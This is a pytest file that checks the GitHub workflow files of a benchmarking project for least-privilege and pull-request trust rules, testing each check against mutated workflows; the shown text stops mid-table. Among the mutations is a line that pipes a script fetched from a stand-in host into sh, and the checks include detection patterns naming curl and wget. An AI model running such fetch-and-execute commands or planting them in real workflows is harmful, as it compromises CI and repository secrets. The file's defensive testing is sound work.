"""The GitHub workflow files: valid against GitHub's schema, safe, and saying what we mean.

The schema (vendored in check-jsonschema, so this runs offline) catches typos and
misplaced keys; the rest of this file checks what a schema cannot. Every workflow
file (the glob, so a new one is covered) keeps least privilege by the rules of
tests/support/workflow_rules.py, each shown to catch a mutated copy. Three checks
guard the trust model of the PR bot (README, "Benchmark every pull request"):

  (a) no job that holds a write permission, nor a job whose output one of them
      posts (comment.yml's `plan`, which `post` needs), checks out, builds or runs
      code from the pull request (nor from its artifact);
  (b) the comment workflow takes its PR number from the artifact only through
      `epbench comment --from-artifact`, with the run's `head_sha` to check it by;
  (c) bench.yml, which runs the PR's code, asks for nothing beyond `contents: read`.

Each check is a function returning the problems it finds; every one is shown to
catch a mutated copy of the real workflow (the parametrized tests below).

bench.yml and bench-comment.yml are thin callers of the action (action.yml) and of the
reusable comment.yml. Two more checks pin the calls themselves (bench runs the BASE
commit's action, from a worktree of it; bench-comment calls the default branch's
comment.yml with exactly the permissions its job asks for), and the checks above
follow each call: they read the bot's steps in comment.yml and bench's in action.yml.
comment.yml's write job is held to more (write_job_problems): it installs and checks
out nothing, and posts only the plan its read-only job made with the checked command.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from epbench.cli.comment_command import comment
from epbench.cli.run_commands import compare_commits
from epbench.core.paths import CACHE_DIR_ENV
from epbench.engine import build as engine_build
from epbench.reports.bot.artifact import PR_FILE
from epbench.workflows.action import ActionInputs, PullRequest, compare_commits_argv, run_action
from tests.support import workflow_rules as rules
from tests.support.action_steps import run_step
from tests.support.gitrepo import git, init_repo
from tests.support.workflow_rules import Doc, load, workflow_files

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"
BENCH = WORKFLOWS / "bench.yml"
COMMENT = WORKFLOWS / "bench-comment.yml"
TESTS = WORKFLOWS / "tests.yml"
REUSABLE = WORKFLOWS / "comment.yml"
ACTION_FILE = ROOT / "action.yml"
SETUP_PYTHON = "actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065"
CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"


def validate(
    *paths: Path, schema: str = "vendor.github-workflows"
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema]
        + [str(p) for p in paths],
        capture_output=True,
        text=True,
        timeout=120,
    )


def steps(doc: Doc) -> list[dict[str, Any]]:
    (job,) = doc["jobs"].values()
    return job["steps"]


def step_index(all_steps: list[dict[str, Any]], predicate: Callable[[Any], bool]) -> int:
    found = [i for i, s in enumerate(all_steps) if predicate(s)]
    assert len(found) == 1, f"expected one matching step, found {len(found)}"
    return found[0]


def uses(action: str) -> Callable[[Any], bool]:
    return lambda s: str(s.get("uses", "")).startswith(action + "@")


def runs(fragment: str) -> Callable[[Any], bool]:
    return lambda s: fragment in str(s.get("run", ""))


def github_glob(pattern: str) -> re.Pattern[str]:
    """GitHub's path filter glob: `*` stays within a folder, `**` crosses folders."""
    out = []
    i = 0
    while i < len(pattern):
        if pattern.startswith("**", i):
            out.append(".*")
            i += 2
        elif pattern[i] == "*":
            out.append("[^/]*")
            i += 1
        else:
            out.append(re.escape(pattern[i]))
            i += 1
    return re.compile("".join(out) + r"\Z")


# -- the three safety checks ---------------------------------------------------------

# A checkout `ref` that names the default branch's code in a workflow_run job.
DEFAULT_BRANCH_REFS = {"${{ github.event.repository.default_branch }}", "${{ github.sha }}"}
# Commands that bring other code into the workspace.
FETCHES_CODE = re.compile(
    r"\bgit\s+(checkout|switch|fetch|pull|clone|worktree|reset|restore|am|apply)\b"
    r"|\bgh\s+(pr\s+checkout|repo\s+clone)\b|\bcurl\b|\bwget\b"
)
# Commands that build, install or run project code.
INSTALLS_OR_RUNS = re.compile(
    r"\bmake\b|\bpip3?\s+install\b|-m\s+pip\b|-m\s+venv\b|\bsetup\.py\b|\bnpm\b|\.venv/bin/"
)
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
HEAD_SHA_EXPR = "${{ github.event.workflow_run.head_sha }}"
# The one request a write job may make with curl (comment.yml's `post`): to "$url", which
# its script builds from the plan's numbers once they are integers, with these options
# only (the body from the plan's file, the answer discarded). Any other curl or wget
# beside a write token fetches something.
PLAN_REQUEST = re.compile(
    r"\bcurl(?:\s+(?:--silent|--show-error|--max-time \d+|--header (?:@-|'[^'$]*')"
    r"|--request \"\$method\"|--data-binary \"@\$plan/request\.json\"|--output /dev/null"
    r"|--write-out '%\{http_code\}'))*\s+\"\$url\"(?=\)|\s*$)", re.MULTILINE
)


def triggers(doc: Doc) -> set[str]:
    on = doc.get("on")
    if isinstance(on, str):
        return {on}
    return set(on or ())


def token_permissions(doc: Doc, job: dict[str, Any]) -> dict[str, str] | None:
    """The job's token permissions; None for "not said" (the repository default, maybe write)."""
    perms = job.get("permissions", doc.get("permissions"))
    if perms is None:
        return None
    if isinstance(perms, str):  # read-all / write-all
        return {"*": perms.split("-")[0]}
    return {str(k): str(v) for k, v in perms.items()}


def has_write(perms: dict[str, str] | None) -> bool:
    return perms is None or "write" in perms.values()


def artifact_dirs(job: dict[str, Any]) -> list[str]:
    """The last path component of every artifact the job downloads from another run (the
    bench run's, which the PR's code may have written); this run's own (comment.yml's plan,
    `run-id` unset) was written by this run's jobs."""
    return [
        str((s.get("with") or {}).get("path", "")).rstrip("/").rsplit("/", 1)[-1]
        for s in job.get("steps", [])
        if uses("actions/download-artifact")(s) and "run-id" in (s.get("with") or {})
    ]


def feeds_a_writer(doc: Doc, name: str) -> bool:
    """Does a job that holds a write permission need job `name` (and so post its output)?"""
    return any(
        name in _needed(job) and has_write(token_permissions(doc, job))
        for job in doc["jobs"].values()
    )


def artifact_used_beyond_reader(text: str, leaf: str) -> bool:
    """True when `text` names the artifact folder other than as `--from-artifact DIR`."""
    allowed = re.compile(rf'--from-artifact\s+"?\$\{{?RUNNER_TEMP\}}?/{re.escape(leaf)}"?')
    return leaf in allowed.sub("", text)


def pr_code_next_to_write_token(doc: Doc) -> list[str]:
    """(a) A job holding a write permission that checks out, builds or runs PR code."""
    problems = []
    from_pr_event = bool(triggers(doc) & {"pull_request", "pull_request_target"})
    for name, job in doc["jobs"].items():
        if not (has_write(token_permissions(doc, job)) or feeds_a_writer(doc, name)):
            continue
        leaves = [leaf for leaf in artifact_dirs(job) if leaf]
        downloaded = False
        for index, step in enumerate(job.get("steps", [])):
            where = f"{name}, step {index + 1} ({step.get('name') or step.get('uses')})"
            options = step.get("with") or {}
            run = str(step.get("run", ""))
            if uses("actions/checkout")(step):
                if from_pr_event:
                    problems.append(f"{where}: checks out a pull request event's code")
                if options.get("ref") not in (None, *DEFAULT_BRANCH_REFS):
                    problems.append(f"{where}: checks out ref {options['ref']}")
                if options.get("repository") not in (None, "${{ github.repository }}"):
                    problems.append(f"{where}: checks out repository {options['repository']}")
                if options.get("persist-credentials") is not False:
                    problems.append(f"{where}: leaves the token in .git/config")
            if uses("actions/download-artifact")(step):
                downloaded = True
                if not str(options.get("path", "")).startswith("${{ runner.temp }}/"):
                    problems.append(f"{where}: downloads the artifact into the workspace")
            for expression in EXPRESSION.findall(run):
                if "github.event" in expression or "steps." in expression:
                    problems.append(f"{where}: puts event data into a script ({expression})")
            fetches = FETCHES_CODE.search(PLAN_REQUEST.sub("", run.replace("\\\n", " ")))
            if fetches:
                problems.append(f"{where}: fetches other code: {fetches[0]}")
            installs = re.sub(r"^\.venv/bin/epbench comment\b", "", run.strip())
            if downloaded and INSTALLS_OR_RUNS.search(installs):
                problems.append(f"{where}: installs or builds after the artifact is downloaded")
            for leaf in leaves:
                if artifact_used_beyond_reader(run, leaf):
                    problems.append(f"{where}: uses the artifact {leaf} as more than data")
            if ".venv/bin/" in run and not any(
                re.search(r"-m venv \.venv\b|\bmake setup\b", str(s.get("run", "")))
                for s in job["steps"][: index + 1]
            ):
                problems.append(f"{where}: runs a .venv this job did not build")
    return problems


def unconfirmed_pr_numbers(doc: Doc) -> list[str]:
    """(b) A comment step that could use the artifact's PR number without the head check."""
    problems = []
    for name, job in doc["jobs"].items():
        leaves = [leaf for leaf in artifact_dirs(job) if leaf]
        posters = 0
        for index, step in enumerate(job.get("steps", [])):
            where = f"{name}, step {index + 1} ({step.get('name') or step.get('uses')})"
            if not uses("actions/download-artifact")(step):
                text = str(step)
                for leaf in leaves:
                    if artifact_used_beyond_reader(text, leaf):
                        problems.append(f"{where}: reads the artifact outside the checked reader")
            run = str(step.get("run", ""))
            if "epbench comment" not in run:
                continue
            posters += 1
            if "--from-artifact" not in run:
                problems.append(f"{where}: posts without --from-artifact")
            if re.search(r"--pr\b|--body\b", run):
                problems.append(f"{where}: passes --pr/--body, which skip the head check")
            sha = re.search(r'--run-head-sha\s+"?\$\{?([A-Z_]+)\}?"?', run)
            env = {**(job.get("env") or {}), **(step.get("env") or {})}
            if sha is None:
                problems.append(f"{where}: no --run-head-sha to check the PR number by")
            elif env.get(sha.group(1)) != HEAD_SHA_EXPR:
                problems.append(f"{where}: --run-head-sha is not {HEAD_SHA_EXPR}")
        if leaves and posters == 0:
            problems.append(f"{name}: downloads an artifact but posts with no checked command")
    return problems


def _needed(job: dict[str, Any]) -> list[str]:
    needs = job.get("needs") or []
    return [needs] if isinstance(needs, str) else list(needs)


def checked_plans(doc: Doc, job: dict[str, Any]) -> set[str]:
    """The artifacts (by name) that a job `job` needs uploads from the folder its
    `epbench comment --from-artifact ... --plan-out "$RUNNER_TEMP/DIR"` step wrote."""
    found = set()
    for needed in _needed(job):
        all_steps = doc["jobs"][needed].get("steps", [])
        made = {
            out[1] for s in all_steps
            if "epbench comment" in (run := str(s.get("run", ""))) and "--from-artifact" in run
            and (out := re.search(r'--plan-out\s+"\$RUNNER_TEMP/([\w.-]+)"', run))
        }
        found |= {
            str(s["with"].get("name")) for s in all_steps
            if uses("actions/upload-artifact")(s)
            and str(s["with"].get("path")) in {f"${{{{ runner.temp }}}}/{d}" for d in made}
        }
    return found


def write_job_problems(doc: Doc) -> list[str]:
    """In the comment bot, a job with steps that holds a write token (`post`) asks for
    `pull-requests: write` alone, checks out and installs nothing, runs no action but the
    download of a plan a job it needs made with the checked command (this run's artifact,
    no `run-id`), and runs its script: the write token beside nothing from a registry."""
    problems = []
    for name, job in doc["jobs"].items():
        if "steps" not in job or not has_write(token_permissions(doc, job)):
            continue
        if job.get("permissions") != {"pull-requests": "write"}:
            problems.append(f"{name}: asks for {job.get('permissions')!r}, not "
                            "pull-requests: write alone")
        plans = checked_plans(doc, job)
        for where, step in rules.job_steps(job):
            options = step.get("with") or {}
            if uses("actions/checkout")(step):
                problems.append(f"{name}, {where}: checks out code beside the write token")
            elif uses("actions/download-artifact")(step):
                if "run-id" in options or str(options.get("name")) not in plans:
                    problems.append(f"{name}, {where}: downloads {options.get('name')!r}, not "
                                    "a plan a job it needs made with epbench comment --plan-out")
            elif "uses" in step:
                problems.append(f"{name}, {where}: runs the action {step['uses']}")
            if rules.installs(step):
                problems.append(f"{name}, {where}: installs packages: {rules.installs(step)}")
    return problems


def more_than_contents_read(doc: Doc) -> list[str]:
    """(c) A workflow that runs PR code asking for more than `contents: read`."""
    problems = []
    if "pull_request_target" in triggers(doc):
        problems.append("pull_request_target runs with a write token")
    if doc.get("permissions") != {"contents": "read"}:
        problems.append(f"workflow permissions are {doc.get('permissions')!r}")
    for name, job in doc["jobs"].items():
        perms = job.get("permissions")
        if perms is not None and (not isinstance(perms, dict) or any(
            (k, v) != ("contents", "read") for k, v in perms.items()
        )):
            problems.append(f"{name}: permissions {perms!r}")
    if "secrets." in str(doc):
        problems.append("uses a secret")
    return problems


# -- the calls: bench.yml runs the base commit's action, bench-comment.yml comment.yml --

# comment.yml checks out epbench's own code at the commit its caller named.
OWN_CODE = {"repository": "${{ job.workflow_repository }}", "ref": "${{ job.workflow_sha }}"}
BASE_SHA_EXPR = "${{ github.event.pull_request.base.sha }}"


def caller_code_in_comment(doc: Doc) -> list[str]:
    """comment.yml runs epbench's code at the caller's chosen commit, never the caller's."""
    problems = []
    for step in (s for job in doc["jobs"].values() for s in job.get("steps", [])):
        if uses("actions/checkout")(step):
            options = {k: (step.get("with") or {}).get(k) for k in OWN_CODE}
            if options != OWN_CODE:
                problems.append(f"checks out {options}, not {OWN_CODE}")
    return problems


def as_default_branch_code(doc: Doc) -> Doc:
    """comment.yml with its checkout of epbench's own code written as the checks above know
    it (the workflow's own repository and commit), after checking it."""
    assert caller_code_in_comment(doc) == []
    doc = copy.deepcopy(doc)
    for step in (s for job in doc["jobs"].values() for s in job.get("steps", [])):
        if uses("actions/checkout")(step):
            for key in OWN_CODE:
                step["with"].pop(key)
    return doc


def follow_call(caller: Doc) -> Doc:
    """What bench-comment.yml runs: the comment.yml its job calls by a local path, under the
    caller's trigger. A `workflow_run` workflow's files are the default branch's, so the
    local comment.yml and the commit it checks out (job.workflow_sha) are the default
    branch's: its checkout is that of default-branch code."""
    (job,) = caller["jobs"].values()
    assert str(job["uses"]).startswith("./"), job["uses"]
    return {**as_default_branch_code(load(ROOT / job["uses"])), "on": caller["on"]}


def asked_permissions(called: Doc) -> dict[str, str]:
    """What a caller must grant a called workflow: each scope at the most any of its jobs
    asks for (write over read)."""
    asked: dict[str, str] = {}
    for job in called["jobs"].values():
        for scope, level in (job.get("permissions") or {}).items():
            if asked.get(scope) != "write":
                asked[scope] = level
    return asked


def comment_caller_problems(doc: Doc, called: Doc | None = None) -> list[str]:
    """bench-comment.yml: a `workflow_run` caller of the default branch's comment.yml that
    grants its job exactly what that job asks for, and hands it no secret."""
    called = load(REUSABLE) if called is None else called
    local = "./" + REUSABLE.relative_to(ROOT).as_posix()
    problems = []
    if triggers(doc) != {"workflow_run"}:
        problems.append(f"triggered by {sorted(triggers(doc))}, not workflow_run")
    if doc.get("permissions") != {"contents": "read"}:
        problems.append(f"workflow permissions are {doc.get('permissions')!r}")
    for name, job in doc["jobs"].items():
        if job.get("uses") != local:
            problems.append(f"{name}: calls {job.get('uses')!r}, not the default branch's "
                            f"{local}")
            continue
        if "secrets" in job:
            problems.append(f"{name}: hands secrets ({job['secrets']!r}) to the called workflow")
        inputs = ((called["on"].get("workflow_call") or {}).get("inputs") or {})
        if set(job.get("with") or {}) - set(inputs):
            problems.append(f"{name}: passes inputs comment.yml does not take")
        asked = asked_permissions(called)
        if job.get("permissions") != asked:
            problems.append(f"{name}: grants {job.get('permissions')!r}, not the {asked!r} "
                            "the called job asks for")
    return problems


def base_harness_problems(doc: Doc, action: Doc | None = None) -> list[str]:
    """bench.yml: the action that measures is the BASE commit's, run from a worktree of that
    commit made right before it, and the action's own checkout (which would wipe that
    folder) left to this job, which checks the PR out as the action would."""
    action = load(ACTION_FILE) if action is None else action
    problems = []
    all_steps = steps(doc)
    local = [i for i, s in enumerate(all_steps) if str(s.get("uses", "")).startswith("./")]
    if len(local) != 1:
        return [f"{len(local)} steps run a local action, not one"]
    at = local[0]
    folder = str(all_steps[at]["uses"])[2:].rstrip("/")
    made = re.compile(rf'git worktree add --detach {re.escape(folder)} "\$BASE_SHA"')
    if not (folder and at > 0 and made.fullmatch(str(all_steps[at - 1].get("run", "")).strip())
            and (all_steps[at - 1].get("env") or {}).get("BASE_SHA") == BASE_SHA_EXPR):
        problems.append(f"runs ./{folder}, not a worktree of the base commit made by the "
                        "step before it")
    ours = [s for s in action["runs"]["steps"] if uses("actions/checkout")(s)]
    checkouts = [i for i, s in enumerate(all_steps) if uses("actions/checkout")(s)]
    if checkouts != [0] or len(ours) != 1 or all_steps[0].get("with") != ours[0].get("with"):
        problems.append("the job does not check the PR out first, once, as the action does")
    options = all_steps[at].get("with") or {}
    if str(options.get("checkout")).lower() != "false" or (
            len(ours) == 1 and ours[0].get("if") != "inputs.checkout != 'false'"):
        problems.append(f"the action's own checkout runs, and would wipe ./{folder}")
    if set(options) - set(action["inputs"]):
        problems.append(f"inputs the action does not take: {set(options) - set(action['inputs'])}")
    return problems


@pytest.fixture(scope="module")
def bench() -> Doc:
    return load(BENCH)


@pytest.fixture(scope="module")
def caller() -> Doc:
    return load(COMMENT)


@pytest.fixture(scope="module")
def bot(caller: Doc) -> Doc:
    return follow_call(caller)


@pytest.fixture(scope="module")
def action() -> Doc:
    return load(ACTION_FILE)


def action_step(action: Doc, predicate: Callable[[Any], bool]) -> dict[str, Any]:
    all_steps = action["runs"]["steps"]
    return all_steps[step_index(all_steps, predicate)]


def test_the_real_workflows_pass_the_three_checks(bench: Doc, caller: Doc, bot: Doc) -> None:
    assert pr_code_next_to_write_token(bench) == []
    assert pr_code_next_to_write_token(bot) == []
    assert pr_code_next_to_write_token(load(TESTS)) == []
    assert unconfirmed_pr_numbers(bot) == []
    assert more_than_contents_read(bench) == []
    assert comment_caller_problems(caller) == []
    assert base_harness_problems(bench) == []
    assert write_job_problems(bot) == []
    # The checks look at what they should: the bot's post job writes, its plan job feeds
    # it (so check (a) holds it too), bench's job does neither.
    assert has_write(token_permissions(bot, _post_job(bot)))
    assert not has_write(token_permissions(bot, _plan_job(bot))) and feeds_a_writer(bot, "plan")
    assert not feeds_a_writer(bench, "bench")
    assert not has_write(token_permissions(bench, bench["jobs"]["bench"]))


def _plan_job(doc: Doc) -> dict[str, Any]:
    return doc["jobs"]["plan"]


def _post_job(doc: Doc) -> dict[str, Any]:
    return doc["jobs"]["post"]


def _step(doc: Doc, predicate: Callable[[Any], bool]) -> dict[str, Any]:
    all_steps = _plan_job(doc)["steps"]
    return all_steps[step_index(all_steps, predicate)]


def _insert_before_install(doc: Doc, step: dict[str, Any]) -> None:
    all_steps = _plan_job(doc)["steps"]
    all_steps.insert(step_index(all_steps, runs("pip install")), step)


def _install_after_download(doc: Doc) -> None:
    all_steps = _plan_job(doc)["steps"]
    install = all_steps.pop(step_index(all_steps, runs("pip install")))
    all_steps.insert(step_index(all_steps, uses("actions/download-artifact")) + 1, install)


def _reader(doc: Doc) -> dict[str, Any]:
    """The plan job's step that reads the artifact and plans the comment."""
    return _step(doc, runs("epbench comment"))


def _poster(doc: Doc) -> dict[str, Any]:
    """The post job's script: the one request."""
    all_steps = _post_job(doc)["steps"]
    return all_steps[step_index(all_steps, lambda s: "run" in s)]


def _edit_poster(old: str, new: str) -> Callable[[Doc], None]:
    def mutate(doc: Doc) -> None:
        assert old in _poster(doc)["run"]
        _poster(doc)["run"] = _poster(doc)["run"].replace(old, new)
    return mutate


def _give_bench_a_write_token(doc: Doc) -> None:
    doc["jobs"]["bench"]["permissions"] = {"contents": "read", "pull-requests": "write"}


# (which workflow, mutation, what the problem says)
PR_CODE_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
    "checkout of the run's head sha": (
        "bot", lambda d: _step(d, uses("actions/checkout"))["with"].update(
            ref="${{ github.event.workflow_run.head_sha }}"),
        "checks out ref ${{ github.event.workflow_run.head_sha }}",
    ),
    "checkout of the fork's repository": (
        "bot", lambda d: _step(d, uses("actions/checkout"))["with"].update(
            repository="${{ github.event.workflow_run.head_repository.full_name }}"),
        "checks out repository",
    ),
    "checkout of refs/pull/N/head": (
        "bot", lambda d: _step(d, uses("actions/checkout"))["with"].update(
            ref="refs/pull/7/head"),
        "checks out ref refs/pull/7/head",
    ),
    "git fetch of the head commit in a script": (
        "bot", lambda d: _insert_before_install(d, {
            "env": {"SHA": "${{ github.event.workflow_run.head_sha }}"},
            "run": 'git fetch origin "$SHA" && git checkout --detach FETCH_HEAD'}),
        "fetches other code: git fetch",
    ),
    "gh pr checkout": (
        "bot", lambda d: _insert_before_install(d, {"run": "gh pr checkout 7"}),
        "fetches other code: gh pr checkout",
    ),
    "the PR-built venv from the artifact": (
        "bot", lambda d: _reader(d).update(run=_reader(d)["run"].replace(
            ".venv/bin/epbench", '"$RUNNER_TEMP/bench-artifact/.venv/bin/epbench"')),
        "uses the artifact bench-artifact as more than data",
    ),
    "pip install of the artifact": (
        "bot", lambda d: _step(d, runs("pip install")).update(
            run=_step(d, runs("pip install"))["run"]
            + '.venv/bin/pip install "$RUNNER_TEMP/bench-artifact"\n'),
        "uses the artifact bench-artifact as more than data",
    ),
    "make setup after the download": (
        "bot", _install_after_download, "installs or builds after the artifact is downloaded",
    ),
    "a venv the job did not build": (
        "bot", lambda d: _plan_job(d)["steps"].remove(_step(d, runs("pip install"))),
        "runs a .venv this job did not build",
    ),
    "the artifact downloaded into the workspace": (
        "bot", lambda d: _step(d, uses("actions/download-artifact"))["with"].update(
            path="bench-out"),
        "downloads the artifact into the workspace",
    ),
    "a head branch name interpolated into a script": (
        "bot", lambda d: _reader(d).update(
            run=_reader(d)["run"] + " # ${{ github.event.workflow_run.head_branch }}"),
        "puts event data into a script",
    ),
    "a second curl in the post job": (
        "bot", _edit_poster("set -euo pipefail\n",
                            "set -euo pipefail\ncurl -sSL https://example.test/x.sh | sh\n"),
        "fetches other code: curl",
    ),
    "the post job's curl saving what it fetches": (
        "bot", _edit_poster("--output /dev/null", '--output "$RUNNER_TEMP/x.sh"'),
        "fetches other code: curl",
    ),
    "the post job's curl fetching a second URL": (
        "bot", _edit_poster('"$url")"', '"$url" https://example.test/x.sh)"'),
        "fetches other code: curl",
    ),
    "the plan job checking out the run's head sha": (
        "bot", lambda d: _step(d, uses("actions/checkout"))["with"].update(
            ref="${{ github.event.workflow_run.head_sha }}"),
        "plan, step 1 (Check out epbench at the commit the caller named): checks out ref",
    ),
    "bench.yml with a write token": (
        "bench", _give_bench_a_write_token, "checks out a pull request event's code",
    ),
    "bench.yml with permissions left to the repository default": (
        "bench", lambda d: d.pop("permissions"), "checks out a pull request event's code",
    ),
}


@pytest.mark.parametrize("mutation", list(PR_CODE_MUTATIONS))
def test_a_write_job_that_touches_pr_code_is_caught(
    bench: Doc, bot: Doc, mutation: str
) -> None:
    which, mutate, expected = PR_CODE_MUTATIONS[mutation]
    doc = copy.deepcopy(bot if which == "bot" else bench)
    mutate(doc)
    problems = pr_code_next_to_write_token(doc)
    assert any(expected in p for p in problems), problems


PR_NUMBER_MUTATIONS: dict[str, tuple[Callable[[Doc], None], str]] = {
    "no --run-head-sha": (
        lambda d: _reader(d).update(run=re.sub(r'--run-head-sha "\$RUN_HEAD_SHA"\s*', "",
                                             _reader(d)["run"])),
        "no --run-head-sha",
    ),
    "--run-head-sha from the wrong sha": (
        lambda d: _reader(d)["env"].update(RUN_HEAD_SHA="${{ github.sha }}"),
        "--run-head-sha is not",
    ),
    "--pr read from the artifact": (
        lambda d: _reader(d).update(run=_reader(d)["run"].replace(
            "--from-artifact", '--pr "$(jq .number "$RUNNER_TEMP/bench-artifact/'
            + PR_FILE + '")" --from-artifact')),
        "passes --pr/--body",
    ),
    "--body and --pr instead of the reader": (
        lambda d: _reader(d).update(run=re.sub(
            r"--from-artifact \S+", '--body "$RUNNER_TEMP/bench-artifact/report.md" --pr 7',
            _reader(d)["run"])),
        "posts without --from-artifact",
    ),
    "a script step that reads the number": (
        lambda d: _plan_job(d)["steps"].append({
            "uses": "actions/github-script@v7",
            "with": {"script": "const pr = require(process.env.RUNNER_TEMP + "
                               "'/bench-artifact/pull-request.json').number"}}),
        "reads the artifact outside the checked reader",
    ),
}


@pytest.mark.parametrize("mutation", list(PR_NUMBER_MUTATIONS))
def test_a_pr_number_used_without_the_head_check_is_caught(bot: Doc, mutation: str) -> None:
    mutate, expected = PR_NUMBER_MUTATIONS[mutation]
    doc = copy.deepcopy(bot)
    mutate(doc)
    problems = unconfirmed_pr_numbers(doc)
    assert any(expected in p for p in problems), problems


def _insert_in_post(step: dict[str, Any]) -> Callable[[Doc], None]:
    return lambda d: _post_job(d)["steps"].insert(1, step)


def _plan_download(doc: Doc) -> dict[str, Any]:
    all_steps = _post_job(doc)["steps"]
    return all_steps[step_index(all_steps, uses("actions/download-artifact"))]["with"]


WRITE_JOB_MUTATIONS: dict[str, tuple[Callable[[Doc], None], str]] = {
    "pip install in the post job": (
        _insert_in_post({"run": "python -m pip install requests"}),
        "post, step 2 (python -m pip install requests): installs packages: -m pip",
    ),
    "setup-python in the post job": (
        _insert_in_post({"uses": SETUP_PYTHON}), "installs packages: actions/setup-python",
    ),
    "a checkout in the post job": (
        _insert_in_post({"uses": f"{CHECKOUT}", "with": {"persist-credentials": False}}),
        "post, step 2 (actions/checkout@",
    ),
    "another action in the post job": (
        _insert_in_post({"uses": "actions/github-script@" + "0" * 40}),
        "runs the action actions/github-script@",
    ),
    "the bench run's artifact downloaded by the post job": (
        lambda d: _plan_download(d).update(name="bench-out",
                                           **{"run-id": "${{ github.event.workflow_run.id }}"}),
        "downloads 'bench-out', not a plan",
    ),
    "a plan from this run's other artifact": (
        lambda d: _plan_download(d).update(name="anything-else"), "downloads 'anything-else'",
    ),
    "a plan made without the checked reader": (
        lambda d: _reader(d).update(run=_reader(d)["run"].replace("--from-artifact", "--body")),
        "not a plan a job it needs made with epbench comment --plan-out",
    ),
    "a post job that does not need the plan job": (
        lambda d: _post_job(d).pop("needs"), "not a plan a job it needs made",
    ),
    "a post job that may also read the code": (
        lambda d: _post_job(d)["permissions"].update(contents="read"),
        "not pull-requests: write alone",
    ),
}


@pytest.mark.parametrize("mutation", list(WRITE_JOB_MUTATIONS))
def test_a_write_job_beside_anything_but_the_checked_plan_is_caught(
    bot: Doc, mutation: str
) -> None:
    mutate, expected = WRITE_JOB_MUTATIONS[mutation]
    doc = copy.deepcopy(bot)
    mutate(doc)
    problems = write_job_problems(doc)
    assert any(expected in p for p in problems), problems


PERMISSION_MUTATIONS: dict[str, tuple[Callable[[Doc], None], str]] = {
    "pull-requests: write": (
        lambda d: d["permissions"].update({"pull-requests": "write"}), "workflow permissions",
    ),
    "write-all": (lambda d: d.update(permissions="write-all"), "workflow permissions"),
    "read-all": (lambda d: d.update(permissions="read-all"), "workflow permissions"),
    "no permissions (the repository default)": (
        lambda d: d.pop("permissions"), "workflow permissions are None",
    ),
    "a job that widens them": (
        lambda d: d["jobs"]["bench"].update(permissions={"contents": "write"}),
        "bench: permissions",
    ),
    "a job that adds one": (
        lambda d: d["jobs"]["bench"].update(permissions={"contents": "read", "checks": "write"}),
        "bench: permissions",
    ),
    "pull_request_target": (
        lambda d: d["on"].update(pull_request_target=d["on"].pop("pull_request")),
        "pull_request_target runs with a write token",
    ),
    "a secret": (
        lambda d: d["jobs"]["bench"].setdefault("env", {}).update(
            TOKEN="${{ secrets.BENCH_PAT }}"),
        "uses a secret",
    ),
}


@pytest.mark.parametrize("mutation", list(PERMISSION_MUTATIONS))
def test_bench_asking_for_more_than_contents_read_is_caught(bench: Doc, mutation: str) -> None:
    mutate, expected = PERMISSION_MUTATIONS[mutation]
    doc = copy.deepcopy(bench)
    mutate(doc)
    problems = more_than_contents_read(doc)
    assert any(expected in p for p in problems), problems


def _bench_step(doc: Doc, predicate: Callable[[Any], bool]) -> dict[str, Any]:
    return steps(doc)[step_index(steps(doc), predicate)]


def _local_action(doc: Doc) -> dict[str, Any]:
    return _bench_step(doc, lambda s: str(s.get("uses", "")).startswith("./"))


def _worktree(doc: Doc) -> dict[str, Any]:
    return _bench_step(doc, runs("git worktree add"))


def _action_checkout(action: Doc) -> dict[str, Any]:
    return action_step(action, uses("actions/checkout"))


# mutation of bench.yml (or of the action, "action"), what the problem says
BASE_HARNESS_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
    "the PR's own action.yml (uses: ./)": (
        "bench", lambda d: _local_action(d).update(uses="./"), "runs ./, not a worktree",
    ),
    "a worktree of the head commit": (
        "bench", lambda d: _worktree(d)["env"].update(
            BASE_SHA="${{ github.event.pull_request.head.sha }}"), "not a worktree of the base",
    ),
    "the action run from another folder": (
        "bench", lambda d: _local_action(d).update(uses="./harness"), "runs ./harness, not",
    ),
    "a step between the worktree and the action": (
        "bench", lambda d: steps(d).insert(step_index(steps(d), runs("git worktree add")) + 1, {
            "env": {"HEAD_SHA": "${{ github.event.pull_request.head.sha }}"},
            "run": 'git -C .base-harness checkout --quiet "$HEAD_SHA"'}),
        "not a worktree of the base commit made by the step before it",
    ),
    "the action's checkout left on": (
        "bench", lambda d: _local_action(d)["with"].pop("checkout"),
        "the action's own checkout runs",
    ),
    "the action's checkout not skippable": (
        "action", lambda d: _action_checkout(d).pop("if"), "the action's own checkout runs",
    ),
    "a shallow checkout of the PR": (
        "bench", lambda d: _bench_step(d, uses("actions/checkout"))["with"].pop("fetch-depth"),
        "does not check the PR out first, once, as the action does",
    ),
    "a checkout after the worktree": (
        "bench", lambda d: steps(d).insert(step_index(steps(d), runs("git worktree add")),
                                            copy.deepcopy(steps(d)[0])),
        "does not check the PR out first, once",
    ),
    "an input the action does not take": (
        "bench", lambda d: _local_action(d)["with"].update(harness="head"),
        "inputs the action does not take",
    ),
}


@pytest.mark.parametrize("mutation", list(BASE_HARNESS_MUTATIONS))
def test_bench_measuring_with_anything_but_the_base_commits_action_is_caught(
    bench: Doc, action: Doc, mutation: str
) -> None:
    which, mutate, expected = BASE_HARNESS_MUTATIONS[mutation]
    bench, action = copy.deepcopy(bench), copy.deepcopy(action)
    mutate(bench if which == "bench" else action)
    problems = base_harness_problems(bench, action)
    assert any(expected in p for p in problems), problems


# mutation of bench-comment.yml (or of comment.yml, "called"), what the problem says
CALLER_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
    "a comment.yml from a branch of another repository": (
        "caller", lambda d: d["jobs"]["comment"].update(
            uses="OWNER/epbench/.github/workflows/comment.yml@main"), "not the default branch's",
    ),
    "secrets: inherit": (
        "caller", lambda d: d["jobs"]["comment"].update(secrets="inherit"), "hands secrets",
    ),
    "contents: write granted": (
